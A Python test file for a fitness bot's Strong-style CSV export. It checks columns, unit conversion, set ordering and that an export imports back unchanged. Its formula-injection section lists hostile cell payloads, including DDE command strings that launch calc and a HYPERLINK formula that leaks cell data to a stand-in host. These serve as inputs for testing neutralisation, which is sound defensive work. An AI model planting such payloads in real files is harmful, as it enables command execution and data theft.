"""/export: the whole history as a Strong-style CSV other tools, and Coach itself, can read."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from datetime import date

from hypothesis import given
from hypothesis import strategies as st

from bot.core.catalogue import CATALOGUE
from bot.core.history import Entry
from bot.core.logparse.reading import LoggedSet
from bot.core.profile import Units
from bot.core.text_input import clean_name
from bot.core.transfer.export_csv import STRONG_COLUMNS, export_filename, export_strong_csv
from bot.core.transfer.formula_cells import FORMULA_STARTS, neutralise_formula, restore_formula
from bot.core.transfer.import_csv import ImportFormat, ImportResult, parse_import
from bot.core.workout import convert_load

MONDAY = date(2026, 11, 23)
THURSDAY = date(2026, 11, 26)
HEADER = (
    "Date,Workout Name,Duration,Exercise Name,Set Order,Weight,Reps,"
    "Distance,Seconds,Notes,Workout Notes,RPE"
)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def export(entries: list[Entry], units: Units = Units.KG) -> str:
    return export_strong_csv(entries, units)


def thrusts(*sets: tuple[int, float | None], day: date = MONDAY, rpe: float | None = None) -> Entry:
    logged = tuple(LoggedSet(r, w, None if w is None else "kg") for r, w in sets)
    return Entry(day, "barbell_hip_thrust", "Barbell hip thrust", logged, rpe=rpe)


def test_the_header_is_strongs_exactly() -> None:
    assert export_strong_csv([], Units.KG) == HEADER + "\r\n"


def test_one_row_per_set_with_strongs_fields() -> None:
    text = export_strong_csv([thrusts((8, 100), (8, 100), (6, 102.5), rpe=8.5)], Units.KG)

    # Text quoted, numbers not, as Strong writes them (and as OWASP advises: see below).
    assert text.splitlines()[1] == (
        '"2026-11-23 12:00:00","Coach","","Barbell hip thrust",1,100,8,0,0,"","",8.5'
    )
    assert [(r["Set Order"], r["Weight"], r["Reps"], r["RPE"]) for r in rows(text)] == [
        ("1", "100", "8", "8.5"),
        ("2", "100", "8", "8.5"),
        ("3", "102.5", "6", "8.5"),
    ]


def test_set_order_counts_per_exercise_per_session() -> None:
    glute_bridge = Entry(MONDAY, "glute_bridge", "Glute bridge", (LoggedSet(20, None, None),))
    entries = [
        thrusts((8, 100), (8, 100)),
        glute_bridge,
        thrusts((6, 105)),  # a second message about the same lift, later that day
        thrusts((8, 100), day=THURSDAY),
    ]

    orders = [(r["Date"][:10], r["Exercise Name"], r["Set Order"]) for r in rows(export(entries))]

    assert orders == [
        ("2026-11-23", "Barbell hip thrust", "1"),
        ("2026-11-23", "Barbell hip thrust", "2"),
        ("2026-11-23", "Glute bridge", "1"),
        ("2026-11-23", "Barbell hip thrust", "3"),
        ("2026-11-26", "Barbell hip thrust", "1"),
    ]


def test_history_comes_out_oldest_first() -> None:
    text = export([thrusts((5, 110), day=THURSDAY), thrusts((8, 100), day=MONDAY)])

    assert [r["Date"] for r in rows(text)] == ["2026-11-23 12:00:00", "2026-11-26 12:00:00"]


def test_loads_are_in_the_persons_unit() -> None:
    in_pounds = Entry(MONDAY, None, "Sled push", (LoggedSet(10, 220.5, "lb"),))
    in_kilograms = thrusts((8, 100))

    assert [r["Weight"] for r in rows(export([in_pounds, in_kilograms], Units.KG))] == [
        "100.02",
        "100",
    ]
    assert [r["Weight"] for r in rows(export([in_pounds, in_kilograms], Units.LB))] == [
        "220.5",
        "220.46",
    ]


def test_bodyweight_sets_weigh_zero_as_in_strong() -> None:
    entry = Entry(
        MONDAY, "nordic_curl", "Nordic curl", (LoggedSet(5, None, None),), bodyweight=True
    )

    assert [r["Weight"] for r in rows(export([entry]))] == ["0"]


def test_names_with_commas_quotes_and_line_breaks_survive() -> None:
    names = ['Hip thrust, "paused"\nwith band', "Sled\rpush"]
    text = export([Entry(MONDAY, None, name, (LoggedSet(8, 60, "kg"),)) for name in names])

    assert [r["Exercise Name"] for r in rows(text)] == names


def test_file_name_states_the_date_and_unit() -> None:
    assert export_filename(Units.KG, date(2026, 11, 27)) == "coach-export-2026-11-27-kg.csv"
    assert export_filename(Units.LB, date(2026, 1, 5)) == "coach-export-2026-01-05-lb.csv"


# --- Round trip ---------------------------------------------------------------------------------


_loads = st.one_of(
    st.none(),
    st.tuples(st.integers(1, 2000).map(lambda n: n / 4), st.sampled_from(("kg", "lb"))),
)
_sets = st.builds(
    lambda reps, load: LoggedSet(reps, *(load or (None, None))), st.integers(1, 100), _loads
)
_names = st.one_of(
    st.sampled_from([(e.id, e.name) for e in CATALOGUE]),
    st.tuples(
        st.none(),
        # Names as Coach stores them: imports clean them (tested in test_import_csv).
        st.text(st.characters(codec="utf-8"), min_size=1, max_size=30).map(clean_name).filter(bool),
    ),
)
_entries = st.builds(
    lambda day, named, sets, rpe: Entry(day, named[0], named[1], tuple(sets), rpe=rpe),
    st.dates(date(2020, 1, 1), date(2030, 12, 31)),
    _names,
    st.lists(_sets, min_size=1, max_size=6),
    st.one_of(st.none(), st.integers(12, 20).map(lambda n: n / 2)),
)


@given(st.lists(_entries, max_size=12), st.sampled_from(Units))
def test_export_then_import_gives_the_same_sets(entries: list[Entry], units: Units) -> None:
    expected: defaultdict[tuple[date, str], list[tuple[int, float | None, float | None]]]
    expected = defaultdict(list)
    for entry in sorted(entries, key=lambda e: e.local_date):
        for s in entry.sets:
            weight = None if s.weight is None else convert_load(s.weight, s.unit, units)
            expected[(entry.local_date, entry.exercise_name)].append((s.reps, weight, entry.rpe))

    result = parse_import(export(entries, units).encode(), person_units=units)

    assert isinstance(result, ImportResult)
    assert result.format is ImportFormat.STRONG
    assert result.skipped_rows == 0
    imported = {
        (workout.started_at.date(), exercise.name): [
            (s.reps, s.weight, s.rpe) for s in exercise.sets
        ]
        for workout in result.workouts
        for exercise in workout.exercises
    }
    assert imported == expected
    units_read = {s.unit for w in result.workouts for e in w.exercises for s in e.sets}
    assert units_read <= {units.value}
    catalogue_ids = {e.exercise_name: e.exercise_id for e in entries if e.exercise_id}
    for workout in result.workouts:
        for exercise in workout.exercises:
            if exercise.name in catalogue_ids:
                assert exercise.exercise_id == catalogue_ids[exercise.name]


# --- Formulas (CSV injection) ------------------------------------------------------------------
#
# OWASP's CSV Injection page: no cell may begin with = + - @ tab or carriage return, which a
# spreadsheet runs as a formula; a single quote before such a cell makes it text.

HOSTILE_NAMES = [
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "@SUM(1)",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "'=already quoted",
    "''@twice",
]
_NUMERIC_COLUMNS = ("Set Order", "Weight", "Reps", "Distance", "Seconds")


def named(*names: str) -> list[Entry]:
    return [Entry(MONDAY, None, name, (LoggedSet(8, 60, "kg"),)) for name in names]


def test_formula_names_are_exported_as_text_and_imported_as_they_were() -> None:
    text = export(named(*HOSTILE_NAMES))

    cells = [r["Exercise Name"] for r in rows(text)]
    assert cells == ["'" + name for name in HOSTILE_NAMES]
    assert "\"'=cmd|' /C calc'!A0\"" in text  # quoted whole: no spreadsheet splits it
    result = parse_import(text.encode(), person_units=Units.KG)
    assert isinstance(result, ImportResult)
    # Tab and carriage return are whitespace, which an import folds (see test_import_csv):
    # "\t=1+2" and "\r=1+2" are both "=1+2", one exercise.
    expected = list(dict.fromkeys(clean_name(name) for name in HOSTILE_NAMES))
    assert [e.name for e in result.workouts[0].exercises] == expected


def test_ordinary_names_and_numbers_are_written_as_they_are() -> None:
    names = ["Hip thrust", "90/90 hip lift", "Glute-ham raise", "'Single' leg RDL", "A+ curl"]
    text = export(named(*names))

    assert [r["Exercise Name"] for r in rows(text)] == names
    assert text.splitlines()[1].endswith(',"Hip thrust",1,60,8,0,0,"","",""')


@given(st.text())
def test_any_cell_neutralised_starts_with_no_formula_and_reads_back(cell: str) -> None:
    written = neutralise_formula(cell)

    assert not written.startswith(FORMULA_STARTS)
    assert restore_formula(written) == cell


_any_names = st.text(min_size=1, max_size=40)


@given(st.lists(_any_names, min_size=1, max_size=5), st.sampled_from(Units))
def test_no_exported_cell_starts_with_a_formula_character(names: list[str], units: Units) -> None:
    text = export(named(*names), units)

    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], row
        numbers = [row[STRONG_COLUMNS.index(column)] for column in _NUMERIC_COLUMNS]
        assert all(float(number) >= 0 for number in numbers), row


_stored_names = (
    st.text(st.characters(codec="utf-8"), min_size=1, max_size=60).map(clean_name).filter(bool)
)


@given(st.lists(_stored_names, min_size=1, max_size=5, unique=True))
def test_any_stored_name_round_trips_exactly(names: list[str]) -> None:
    exported = export(named(*names))
    result = parse_import(exported.encode(), person_units=Units.KG)

    assert isinstance(result, ImportResult)
    imported = [e.name for e in result.workouts[0].exercises]
    assert imported == names
    again = [Entry(MONDAY, None, name, (LoggedSet(8, 60, "kg"),)) for name in imported]
    assert export(again) == exported
